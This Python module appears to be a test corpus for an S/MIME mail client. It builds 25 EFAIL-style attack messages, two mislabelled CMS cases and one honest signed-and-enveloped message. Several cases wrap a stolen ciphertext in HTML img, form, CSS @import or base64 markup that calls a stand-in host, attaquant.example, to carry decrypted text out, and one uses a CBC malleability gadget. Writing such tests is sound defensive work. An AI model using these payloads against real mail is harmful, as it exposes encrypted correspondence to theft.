"""25 trees after EFAIL (Poddebniak and others, USENIX Security 2018), and one honest message.

The attacker holds a message that VICTIM signed and closed for READER, cannot open it, and sends
READER something built around it: markup that would carry the text away, CMS where a program might
open it by itself, labels that lie, envelopes around envelopes.
"""

from tests.corpus.smime.people import (
    ATTACKER,
    READER,
    VICTIM,
    enveloped,
    malleated,
    signed_by,
)
from tests.corpus.smime.shapes import (
    FORGED,
    author,
    honestly_signed,
    html,
    message,
    multipart,
    pkcs7,
)

SECRET = "Diagnostic confirmé : protocole Ambre-47."
"""What must never be shown as anybody's, nor leave."""

SECRET_MARK = b"Ambre-47"

_TEXT = (
    "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    f"{SECRET}\r\n"
).encode()
_STOLEN = enveloped(honestly_signed(VICTIM, _TEXT), READER, "stolen")
_STOLEN_UNSIGNED = enveloped(_TEXT, READER, "unsigned")
_OPENING = html('<img src="http://attaquant.example/?')
_CLOSING = html('">')
_FROM_ATTACKER = author(ATTACKER)


def _stolen(media_type: str = "application/pkcs7-mime") -> bytes:
    return pkcs7("enveloped-data", _STOLEN, media_type=media_type)


def _wrapped(entity: bytes, label: str) -> bytes:
    return pkcs7("enveloped-data", enveloped(entity, READER, label))


def _five_deep() -> bytes:
    entity = honestly_signed(VICTIM, _TEXT)
    for depth in range(5):
        entity = _wrapped(entity, f"depth {depth}")
    return entity


def _split_boundary() -> bytes:
    """Two multiparts with one boundary: the inner parts belong to whom a reader says."""
    inner = multipart("mixed", _stolen(), boundary="limite")
    return multipart("mixed", _OPENING, inner, _CLOSING, boundary="limite")


def _gadget() -> bytes:
    blocks = [b"Content-type: te", b"xt/html\r\n\r\n<img ", b"src='http://a.e/"]
    return malleated(honestly_signed(VICTIM, _TEXT), READER, "stolen", blocks)


def _trees() -> dict[str, bytes]:
    """Content around the ciphertext: it stands below the root, so nothing opens it."""
    forwarded = b"Content-Type: message/rfc822\r\n\r\n" + message("transfere", _stolen())
    named = _stolen("application/octet-stream")
    return {
        "01-html-around": multipart("mixed", _OPENING, _stolen(), _CLOSING),
        "02-alternative": multipart("alternative", _OPENING, _stolen(), _CLOSING),
        "03-related-by-cid": multipart(
            "related", html('<iframe src="cid:c"></iframe>'), b"Content-ID: <c>\r\n" + _stolen()
        ),
        "04-text-before": multipart("mixed", FORGED, _stolen()),
        "05-text-after": multipart("mixed", _stolen(), FORGED),
        "06-two-envelopes": multipart(
            "mixed", _stolen(), pkcs7("enveloped-data", _STOLEN_UNSIGNED)
        ),
        "07-named-octets": multipart("mixed", FORGED, named),
        "08-forwarded": multipart("mixed", FORGED, forwarded),
        "09-root-is-a-message": forwarded,
        "10-alone-in-a-multipart": multipart("mixed", _stolen()),
        "11-digest": multipart("digest", b"\r\n" + message("resume", _stolen())),
        "12-open-form": multipart(
            "mixed", html('<form action="http://attaquant.example/"><textarea name="t">'), _stolen()
        ),
        "13-plaintext-element": multipart(
            "mixed", html('<meta http-equiv="refresh" content="0"><plaintext>'), _stolen()
        ),
        "14-style-rule": multipart(
            "mixed", html('<style>@import "http://attaquant.example/?'), _stolen(), _CLOSING
        ),
        "15-encoded-markup": multipart(
            "mixed",
            b"Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            b"PGltZyBzcmM9Imh0dHA6Ly9hdHRhcXVhbnQuZXhhbXBsZS8/\r\n",
            _stolen(),
            _CLOSING,
        ),
        "16-html-named-as-cms": _stolen("text/html"),
        "17-nested-multiparts": multipart(
            "mixed", multipart("mixed", _OPENING, _stolen(), boundary="b2"), _CLOSING
        ),
        "18-same-boundary-twice": _split_boundary(),
        "19-partial-in-related": multipart(
            "related", multipart("alternative", FORGED, _stolen(), boundary="b2"), _CLOSING
        ),
    }


def _roots() -> dict[str, tuple[bytes, bytes | None]]:
    """CMS at the root that proves nothing of the text; the From field where it is not VICTIM's."""
    around = multipart("mixed", _OPENING, _stolen(), _CLOSING)
    return {
        "20-signed-around-a-part": (honestly_signed(ATTACKER, around), _FROM_ATTACKER),
        "21-signed-around-the-whole": (honestly_signed(ATTACKER, _stolen()), _FROM_ATTACKER),
        "22-unsigned-cbc": (pkcs7("enveloped-data", _STOLEN_UNSIGNED), None),
        "23-cbc-gadget": (pkcs7("enveloped-data", _gadget()), None),
        "24-envelope-in-an-envelope-part": (_wrapped(around, "around"), _FROM_ATTACKER),
        "25-five-envelopes": (_five_deep(), None),
    }


def _labels() -> dict[str, bytes]:
    """Not among the 25: the label says another thing than the octets."""
    return {
        "label-signed-is-enveloped": pkcs7("signed-data", _STOLEN),
        "label-enveloped-is-signed": pkcs7("enveloped-data", signed_by(VICTIM, _TEXT, opaque=True)),
    }


def messages() -> dict[str, bytes]:
    """Every message by its name: the 25, the labels, the honest one last."""
    made = {name: message(name, entity) for name, entity in _trees().items()}
    made |= {name: message(name, entity, who) for name, (entity, who) in _roots().items()}
    made |= {name: message(name, entity) for name, entity in _labels().items()}
    made["valid-signed-and-enveloped"] = message("valid-signed-and-enveloped", _stolen())
    return made
